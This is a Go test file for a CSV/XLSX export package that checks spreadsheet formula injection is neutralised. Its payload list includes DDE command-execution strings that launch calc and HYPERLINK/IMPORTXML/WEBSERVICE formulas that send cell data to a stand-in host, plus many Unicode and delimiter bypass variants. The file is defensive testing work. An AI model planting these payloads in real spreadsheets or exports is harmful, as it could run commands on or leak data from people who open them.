package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"
)

// payloads is what was tried on spreadsheets elsewhere, and ways around simple guards.
var payloads = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1+1)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
	`=HYPERLINK("http://x.example/?"&A1,"bấm")`, `=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")`, `=WEBSERVICE("http://x.example/")`, `=DDE("cmd";"/C calc";"x")`,
	"\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", " =1+1", "   =1+1", "\u00a0=1+1", "\u2003=1+1", "\u3000=1+1",
	"\u200b=1+1", "\u200d=1+1", "\ufeff=1+1", "\u2060=1+1", "\u202e=1+1", "\u00ad=1+1", " \u200b =1+1", "\x01=1+1", "\x0b=1+1", "\x0c=1+1",
	"＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1", "−1+1", "|cmd", "%0A=1+1", `"=1+1`, `""=1+1`, "'=1+1", `"` + "\t" + `=1+1`,
	"a,=1+1", "a;=1+1", "a\n=1+1", "a\r\n=cmd|' /C calc'!A0", `a";"=1+1`, `a","=1+1`, "a\t=1+1", "=1+1;x", `=A1&"` + "\n" + `"`,
}

// acts tells whether a spreadsheet could take a cell for a formula.
func acts(cell string) bool {
	visible := strings.TrimLeft(cell, " \t\r\n\v\f\x01\u00a0\u2003\u3000\u200b\u200d\ufeff\u2060\u202e\u00ad\"")
	return visible != "" && strings.ContainsAny(visible[:1], "=+-@|%") || strings.HasPrefix(visible, "＝") || strings.HasPrefix(visible, "＋") ||
		strings.HasPrefix(visible, "－") || strings.HasPrefix(visible, "＠") || strings.HasPrefix(visible, "﹦") || strings.HasPrefix(visible, "−")
}

// TestNoCellIsAFormula: whatever people write, in every field, opens as text, with its words as they were.
func TestNoCellIsAFormula(t *testing.T) {
	t.Parallel()
	if len(payloads) < 40 {
		t.Fatalf("only %d payloads", len(payloads))
	}
	var rows []Row
	for _, p := range payloads {
		rows = append(rows, Row{Code: p, Campaign: p, State: p, SubmittedAt: time.Unix(0, 0), Author: p, Unit: p, Answers: map[string]string{"a": p, "b": p}})
	}
	columns := []Column{{Key: "a", Name: "=1+1"}, {Key: "b", Name: "@b"}}
	for format, open := range map[string]func(*testing.T, []byte) [][]string{"csv": openCSV, "xlsx": openXLSX} {
		var b bytes.Buffer
		if err := Write(&b, format, time.UTC, columns, rows); err != nil {
			t.Fatal(err)
		}
		cells := open(t, b.Bytes())
		if len(cells) != len(payloads)+1 {
			t.Fatalf("%s: %d lines of %d: a cell became a line", format, len(cells), len(payloads)+1)
		}
		for n, line := range cells {
			if len(line) != 10 {
				t.Errorf("%s, line %d: %d cells: a cell became two", format, n, len(line))
				continue
			}
			for i, cell := range line {
				if acts(cell) {
					t.Errorf("%s, line %d, cell %d acts: %q", format, n, i, cell)
				}
			}
			if n > 0 && !strings.HasSuffix(simple(line[4]), simple(payloads[n-1])) {
				t.Errorf("%s: %q became %q", format, payloads[n-1], line[4])
			}
		}
	}
}

// simple leaves out what a format cannot carry: control characters in XLSX, a lone carriage return in CSV.
func simple(s string) string {
	return strings.Map(func(r rune) rune {
		if r < ' ' {
			return -1
		}
		return r
	}, s)
}

func openCSV(t *testing.T, data []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff"))))
	r.Comma = ';'
	cells, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return cells
}

func openXLSX(t *testing.T, data []byte) [][]string {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	cells, err := f.GetRows(f.GetSheetName(0))
	if err != nil {
		t.Fatal(err)
	}
	for n := range cells {
		for i := range cells[n] {
			name, err := excelize.CoordinatesToCellName(i+1, n+1)
			if err != nil {
				t.Fatal(err)
			}
			if formula, err := f.GetCellFormula(f.GetSheetName(0), name); err != nil || formula != "" {
				t.Errorf("%s has the formula %q, %v", name, formula, err)
			}
		}
	}
	return cells
}
